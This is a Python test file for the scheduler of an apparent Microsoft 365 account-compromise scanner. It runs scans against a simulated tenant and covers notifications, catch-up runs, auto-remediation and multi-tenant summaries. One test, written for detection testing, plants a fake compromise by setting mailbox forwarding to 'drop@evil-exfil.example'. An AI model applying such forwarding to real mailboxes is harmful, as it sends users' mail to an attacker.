"""The scheduler against the simulated tenant (in-process): scans on a fast trigger with one notification for the
first scan and none for an unchanged second one; catch-up of a missed nightly run; auto-remediation from the schedule;
max_instances / coalesce / grace from config. Synchronisation is by condition variables with timeouts, never sleeps."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from apscheduler.triggers.interval import IntervalTrigger

from scanner.schedule import build_scheduler, missed_run, previous_fire_time
from scanner.store import Store
from tests.ops.receiver import Receiver


def _env(make_sim_env: Any, **sections: Any) -> Any:
    return make_sim_env(users=40, seed=11, **sections)


def test_fast_trigger_two_scans_one_notification(make_sim_env: Any, tmp_path: Path) -> None:
    with Receiver() as rx:
        env = _env(make_sim_env, notify={"webhook_url": rx.url, "format": "json", "min_severity": "high"})
        ss = build_scheduler([env.cfg], trigger=IntervalTrigger(seconds=0.2), out=tmp_path / "out",
                             connect_kwargs=lambda cfg: env.kwargs, stop_after=2, catch_up=False)
        job = ss.scheduler.get_job(next(iter(ss.jobs)))
        assert job.max_instances == 1 and job.coalesce is True
        assert job.misfire_grace_time == env.cfg.schedule.misfire_grace_seconds
        ss.start()
        try:
            assert ss.wait_for_runs(2, timeout=120), "two scheduled scans did not finish"
        finally:
            ss.shutdown(wait=True)
        first, second = ss.outcomes
        assert first.exit_code == 0 and second.exit_code == 0
        with Store(env.cfg.database_path) as store:
            scans = store.scans()
            assert [s["id"] for s in scans] == [first.scan_id, second.scan_id]
            assert all(s["finished"] and s["accounts_scanned"] == first.accounts_scanned >= 40 for s in scans)
            high = [f for f in store.findings(first.scan_id)
                    if f["severity"] in ("high", "critical") and not f["suppressed"]]
        assert second.new_findings == 0  # nothing changed in the tenant between the scans
        assert first.notification is not None and first.notification["sent"]
        assert second.notification is None
        assert len(rx.attempts) == 1 and len(rx.received) == 1
        msg = rx.received[0]
        assert msg["baseline"] is True and msg["scan"]["id"] == first.scan_id
        assert msg["new_findings"] == len(high) > 0
        assert {f["account"] for f in msg["findings"]} <= {f["account"] for f in high}
        assert (tmp_path / "out" / "report.html").is_file()  # single tenant: --out as is


def test_new_finding_between_scheduled_runs_is_notified(make_sim_env: Any, tmp_path: Path) -> None:
    with Receiver() as rx:
        env = _env(make_sim_env, notify={"webhook_url": rx.url, "format": "slack", "min_severity": "high"})
        ss = build_scheduler([env.cfg], trigger=IntervalTrigger(hours=1), out=tmp_path / "out",
                             connect_kwargs=lambda cfg: env.kwargs, catch_up=False)
        key = next(iter(ss.jobs))
        ss.start()
        try:
            ss.scheduler.modify_job(key, next_run_time=datetime.now(UTC))
            assert ss.wait_for_runs(1, timeout=120)
            victim = next(u for u in env.tenant.iter_users() if u.has_mailbox and
                          env.tenant.label_of(u.userPrincipalName)["label"] == "plain")
            env.tenant.set_forwarding(victim.userPrincipalName, smtp="smtp:drop@evil-exfil.example")
            ss.scheduler.modify_job(key, next_run_time=datetime.now(UTC))
            assert ss.wait_for_runs(2, timeout=120)
        finally:
            ss.shutdown(wait=True)
        assert rx.wait_for(2)
        text = rx.received[1]["blocks"][1]["text"]["text"]
        assert victim.userPrincipalName in text
        assert rx.received[1]["text"].startswith("m365sweep: 1 new finding(s)") or "new finding" in rx.received[1]["text"]
        assert ss.outcomes[1].new_findings >= 1


def _seed_scan(db: Path, tenant_id: str, started: datetime) -> None:
    with Store(db) as store:
        sid = store.begin_scan(tenant_id)
        store.finish_scan(sid, "complete")
        store.db["scans"].update(sid, {"started": started.strftime("%Y-%m-%dT%H:%M:%S.%fZ")})


def test_missed_nightly_run_is_caught_up_once(make_sim_env: Any, tmp_path: Path) -> None:
    env = _env(make_sim_env, schedule={"cron": "0 2 * * *", "timezone": "UTC"})
    now = datetime.now(UTC)
    prev = previous_fire_time(ss_trigger(env.cfg), now)
    assert prev is not None and now - timedelta(days=1) < prev <= now
    assert not missed_run(env.cfg, now)  # no scans at all: nothing was missed
    _seed_scan(env.cfg.database_path, env.cfg.tenant.tenant_id, prev - timedelta(days=1))
    assert missed_run(env.cfg, now)

    ss = build_scheduler([env.cfg], out=tmp_path / "out", connect_kwargs=lambda cfg: env.kwargs, now=now)
    key = next(iter(ss.jobs))
    assert ss.caught_up[key] is True
    ss.start()
    try:
        assert ss.wait_for_runs(1, timeout=120), "the missed run was not caught up"
        job = ss.scheduler.get_job(key)
        # Once: afterwards the cron decides (next 02:00 UTC), not another immediate run.
        assert job.next_run_time.astimezone(UTC).hour == 2 and job.next_run_time > datetime.now(UTC)
    finally:
        ss.shutdown(wait=True)
    assert len(ss.outcomes) == 1 and ss.outcomes[0].accounts_scanned >= 40
    # Restarting now: the newest finished scan started after the cron's last fire → no catch-up.
    ss2 = build_scheduler([env.cfg], out=tmp_path / "out", connect_kwargs=lambda cfg: env.kwargs)
    assert ss2.caught_up[key] is False


def ss_trigger(cfg: Any) -> Any:
    from scanner.schedule import cron_trigger

    return cron_trigger(cfg)


def test_scheduled_run_applies_auto_remediation_when_policy_allows(make_sim_env: Any, tmp_path: Path) -> None:
    env = _env(make_sim_env, remediation={"allow_auto": True, "max_accounts_per_run": 50,
                                          "steps": ["revoke_sessions", "remove_forwarding", "disable_rules"]})
    ss = build_scheduler([env.cfg], trigger=IntervalTrigger(hours=1), out=tmp_path / "out",
                         connect_kwargs=lambda cfg: env.kwargs, catch_up=False)
    key = next(iter(ss.jobs))
    ss.start()
    try:
        ss.scheduler.modify_job(key, next_run_time=datetime.now(UTC))
        assert ss.wait_for_runs(1, timeout=180)
    finally:
        ss.shutdown(wait=True)
    out = ss.outcomes[0]
    assert out.remediation is not None and not out.remediation.get("error"), out.remediation
    assert out.remediation["dry_run"] is False and out.remediation["acted"], out.remediation
    with Store(env.cfg.database_path) as store:
        compromised = [a["upn"] for a in store.accounts(out.scan_id) if a["verdict"] == "compromised"]
        journal = store.journal()
    assert set(out.remediation["acted"]) <= set(compromised)
    assert {j["actor"] for j in journal} == {"scheduler"}
    for upn in out.remediation["acted"]:
        assert env.tenant.user(upn).sessions_revoked >= 1  # the tenant really changed


def test_bad_cron_is_a_config_error(make_sim_env: Any) -> None:
    from scanner.config import ConfigError

    env = _env(make_sim_env, schedule={"cron": "61 2 * * *"})
    with pytest.raises(ConfigError, match="schedule"):
        build_scheduler([env.cfg])
    env = _env(make_sim_env, schedule={"timezone": "Mars/Olympus"})
    with pytest.raises(ConfigError, match="timezone"):
        build_scheduler([env.cfg])


def test_schedule_of_two_tenants_writes_per_tenant_outputs_and_a_summary(make_sim_env: Any, tmp_path: Path) -> None:
    a = make_sim_env(users=20, seed=51, storage={"database": str(tmp_path / "a.db")})
    b = make_sim_env(users=20, seed=52, storage={"database": str(tmp_path / "b.db")})
    envs = {a.cfg.tenant.tenant_id: a, b.cfg.tenant.tenant_id: b}
    ss = build_scheduler([a.cfg, b.cfg], trigger=IntervalTrigger(hours=1), out=tmp_path / "out",
                         connect_kwargs=lambda cfg: envs[cfg.tenant.tenant_id].kwargs, catch_up=False)
    assert len(ss.jobs) == 2
    ss.start()
    try:
        for key in ss.jobs:  # both tenants due now: they run concurrently, one job each
            ss.scheduler.modify_job(key, next_run_time=datetime.now(UTC))
        assert ss.wait_for_runs(2, timeout=180)
    finally:
        ss.shutdown(wait=True)
    assert sorted(o.tenant_id for o in ss.outcomes) == sorted(envs)
    for o in ss.outcomes:
        assert o.exit_code == 0 and Path(o.out_dir).parent == tmp_path / "out"
        assert (Path(o.out_dir) / "report.html").is_file()
    summary = json.loads((tmp_path / "out" / "summary.json").read_text())
    assert sorted(t["tenant_id"] for t in summary["tenants"]) == sorted(envs)


def test_scheduled_run_resumes_tonights_scan_but_not_a_stale_one(make_sim_env: Any, tmp_path: Path) -> None:
    from scanner.schedule import fresh_unfinished_scan

    env = _env(make_sim_env, schedule={"cron": "0 2 * * *"})
    now = datetime.now(UTC)
    prev = previous_fire_time(ss_trigger(env.cfg), now)
    with Store(env.cfg.database_path) as store:
        stale = store.begin_scan(env.cfg.tenant.tenant_id)
        store.db["scans"].update(stale, {"started": (prev - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")})
    assert not fresh_unfinished_scan(env.cfg, prev)
    ss = build_scheduler([env.cfg], trigger=IntervalTrigger(hours=1), out=tmp_path / "out",
                         connect_kwargs=lambda cfg: env.kwargs, catch_up=False)
    key = next(iter(ss.jobs))
    ss.start()
    try:
        ss.scheduler.modify_job(key, next_run_time=datetime.now(UTC))
        assert ss.wait_for_runs(1, timeout=120)
    finally:
        ss.shutdown(wait=True)
    assert ss.outcomes[0].scan_id != stale  # a fresh scan, not yesterday's continued
    with Store(env.cfg.database_path) as store:
        tonight = store.begin_scan(env.cfg.tenant.tenant_id)  # e.g. cut short by a reboot after 02:00
        assert tonight
    assert fresh_unfinished_scan(env.cfg, prev)


def test_concurrent_summary_writers_never_collide(tmp_path: Path) -> None:
    # Scheduled tenants finish concurrently and each rewrites the cross-tenant summary: every write must land whole
    # (a shared "summary.json.tmp" made one writer's rename fail when the other had already moved it).
    from concurrent.futures import ThreadPoolExecutor

    from scanner.tenants import write_summary

    def write(_i: int) -> None:
        for _ in range(20):
            write_summary(tmp_path, [])

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(write, range(8)))  # re-raises any writer's exception
    assert json.loads((tmp_path / "summary.json").read_text())["tenants"] == []
    assert (tmp_path / "summary.html").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["summary.html", "summary.json"]  # no temporary left
